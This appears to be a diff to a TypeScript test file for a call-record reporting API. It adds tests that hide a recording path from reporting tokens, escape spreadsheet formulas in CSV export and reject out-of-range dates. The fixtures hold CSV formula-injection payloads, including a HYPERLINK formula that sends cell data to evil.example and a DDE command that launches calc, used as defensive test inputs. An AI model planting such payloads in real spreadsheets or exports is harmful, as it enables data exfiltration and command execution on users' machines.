@@ -11,7 +11,7 @@ import pino from 'pino';
 import { CallFields } from '../src/cdr/store';
 import { apiAuth } from '../src/http/auth';
 import { createHttpApp, listen } from '../src/http/server';
-import { CALL_COLUMNS } from '../src/reports/columns';
+import { CALL_COLUMNS, REPORTING_COLUMNS } from '../src/reports/columns';
 import { parseFilter } from '../src/reports/filters';
 import { ReportStore } from '../src/reports/store';
 import { startStack, TestStack } from './harness/bridge';
@@ -238,11 +238,11 @@ describe('CDR reporting API', function () {
       assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
       assert.match(res.headers.get('content-disposition') ?? '', /^attachment; filename="calls_20190301T000000Z_20190308T000000Z\.csv"$/);
       const rows = parseCsv(await res.text());
-      assert.deepEqual(rows[0], CALL_COLUMNS.map((c) => c.name));
+      assert.deepEqual(rows[0], REPORTING_COLUMNS.map((c) => c.name), 'a reporting token: every column but recording_path');
       const data = rows.slice(1);
       const expected = expectA((r) => r.direction === 'outbound' && r.offered_at >= new Date(A_FROM) && r.offered_at < new Date(A_TO));
       assert.deepEqual(data.map((r) => r[0]), expected);
-      const col = (name: string) => CALL_COLUMNS.findIndex((c) => c.name === name);
+      const col = (name: string) => REPORTING_COLUMNS.findIndex((c) => c.name === name);
       const json1 = (await json<Page>(`/api/calls?${A}&direction=outbound&limit=1`)).calls[0]!;
       assert.equal(data[0]![col('offered_at')], json1.offered_at);
       assert.equal(data[0]![col('talk_seconds')], json1.talk_seconds === null ? '' : String(json1.talk_seconds));
@@ -330,7 +330,10 @@ describe('CDR reporting API', function () {
       assert.equal(body.call.mos, 4.1);
       assert.equal(body.call.jitter_ms, 3.25);
       assert.equal(body.call.recording_bytes, 1024);
-      for (const c of CALL_COLUMNS) assert.ok(c.name in body.call, `column ${c.name}`);
+      for (const c of REPORTING_COLUMNS) assert.ok(c.name in body.call, `column ${c.name}`);
+      assert.ok(!('recording_path' in body.call), 'a reporting token does not see recording_path');
+      const asAdmin = await json<{ call: Record<string, unknown> }>(`/api/calls/${id}`, ADMIN);
+      for (const c of CALL_COLUMNS) assert.ok(c.name in asAdmin.call, `admin: column ${c.name}`);
       assert.deepEqual((body.call.media_stats as { legs: Record<string, unknown> }).legs.whatsapp, { packets: 600, bytes: 1, errors: 0, codec: 'opus/48000/2' });
       assert.deepEqual(body.timeline.map((e) => e.type), ['offered', 'pre_accepted', 'invite_sent']);
       assert.deepEqual(body.timeline[1]!.detail, { ms: 3 });
@@ -471,6 +474,80 @@ describe('CDR reporting API', function () {
       assert.deepEqual(s.totals, {
         offered: 0, answered: 0, missed: 0, abandoned: 0, answer_rate: null, talk_seconds_total: 0, talk_seconds_avg: null, wait_seconds_avg: null, wait_seconds_p90: null,
       });
+    });
+  });
+
+  describe('issue 17: what a reporting token sees, formulas in CSV, far-future ranges', () => {
+    const X_FROM = '2019-07-01T00:00:00Z';
+    const X = `from=${X_FROM}&to=2019-07-02T00:00:00Z`;
+    const recordedId = crypto.randomUUID();
+    const hostileId = crypto.randomUUID();
+    before(async () => {
+      await write([
+        { id: recordedId, direction: 'inbound', state: 'ended', offered_at: new Date('2019-07-01T10:00:00Z'), outcome: 'answered', recording_path: '/var/lib/rtpengine-recording/secret-layout/x.wav', recording_bytes: '10' },
+        {
+          id: hostileId, direction: 'inbound', state: 'ended', offered_at: new Date('2019-07-01T11:00:00Z'), outcome: 'failed',
+          agent: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', wa_codec: '@SUM(1+1)*cmd|\' /C calc\'!A0', pbx_codec: '+cmd',
+          sip_final_reason: '-2+3', error: '\t=1+1', pbx_target: '\r=1', customer_number: '+15550900001', business_number: '+15550900002',
+        },
+      ]);
+    });
+
+    it('a reporting token never sees recording_path (list, one call, CSV); the admin token does', async () => {
+      const list = await json<Page>(`/api/calls?${X}`);
+      const mine = list.calls.find((c) => c.id === recordedId)!;
+      assert.ok(mine, 'the call is listed');
+      assert.ok(!('recording_path' in mine), 'not in the list');
+      const one = await json<{ call: Record<string, unknown> }>(`/api/calls/${recordedId}`);
+      assert.ok(!('recording_path' in one.call), 'not in the detail view');
+      const csv = await (await api(`/api/calls?${X}&format=csv`)).text();
+      assert.ok(!parseCsv(csv)[0]!.includes('recording_path'), 'not a CSV column');
+      assert.ok(!csv.includes('secret-layout'), 'the path appears nowhere in the CSV');
+
+      const adminList = await json<Page>(`/api/calls?${X}`, ADMIN);
+      assert.equal(adminList.calls.find((c) => c.id === recordedId)!.recording_path, '/var/lib/rtpengine-recording/secret-layout/x.wav');
+      const adminOne = await json<{ call: Record<string, unknown> }>(`/api/calls/${recordedId}`, ADMIN);
+      assert.equal(adminOne.call.recording_path, '/var/lib/rtpengine-recording/secret-layout/x.wav');
+      const adminCsv = parseCsv(await (await api(`/api/calls?${X}&format=csv`, { token: ADMIN })).text());
+      assert.deepEqual(adminCsv[0], CALL_COLUMNS.map((c) => c.name));
+    });
+
+    it('CSV: a text field a spreadsheet would run as a formula gets a single quote in front; numbers stay as they are', async () => {
+      for (const token of [READER, ADMIN]) {
+        const [header, ...rows] = parseCsv(await (await api(`/api/calls?${X}&format=csv`, { token })).text());
+        const row = rows.find((r) => r[0] === hostileId)!;
+        const get = (n: string) => row[header!.indexOf(n)];
+        assert.equal(get('agent'), `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
+        assert.equal(get('wa_codec'), `'@SUM(1+1)*cmd|' /C calc'!A0`);
+        assert.equal(get('pbx_codec'), "'+cmd");
+        assert.equal(get('sip_final_reason'), "'-2+3");
+        assert.equal(get('error'), "'\t=1+1");
+        assert.equal(get('pbx_target'), "'\r=1");
+        assert.equal(get('customer_number'), '+15550900001', 'an E.164 number is not a formula');
+        assert.equal(get('business_number'), '+15550900002');
+        for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r](?!\d+$)/, `cell ${JSON.stringify(cell)} would start a formula`);
+      }
+      // JSON is data, not a spreadsheet: the values are as recorded.
+      const one = await json<{ call: Record<string, unknown> }>(`/api/calls/${hostileId}`);
+      assert.equal(one.call.agent, '=HYPERLINK("http://evil.example/?x="&A1,"Click")');
+    });
+
+    it('a summary ending in the year 9999 read in a zone 12 h behind UTC: 400 naming to, not a 500; just inside: 200', async () => {
+      const cases: Array<[string, string]> = [
+        ['from=9999-12-01&to=9999-12-31T23:00&tz=Etc/GMT%2B12', 'to'],
+        ['from=9999-12-01&to=9999-12-31T23:59:59.999999&tz=America/Los_Angeles&group_by=hour', 'to'],
+        ['from=1000-01-01&to=1000-01-05&tz=Etc/GMT-14', 'from'],
+      ];
+      for (const [q, field] of cases) {
+        const res = await api(`/api/reports/summary?${q}`);
+        const body = (await res.json()) as { error: string; field: string };
+        assert.equal(res.status, 400, `${q}: ${JSON.stringify(body)}`);
+        assert.equal(body.field, field);
+        assert.match(body.error, /outside the years 1000 to 9999 in UTC/);
+      }
+      const inside = await json<Summary>('/api/reports/summary?from=9999-12-01&to=9999-12-31&tz=Etc/GMT%2B12&group_by=hour');
+      assert.equal(inside.to, '9999-12-31T12:00:00.000000Z');
+      assert.equal(inside.totals.offered, 0);
     });
   });
 
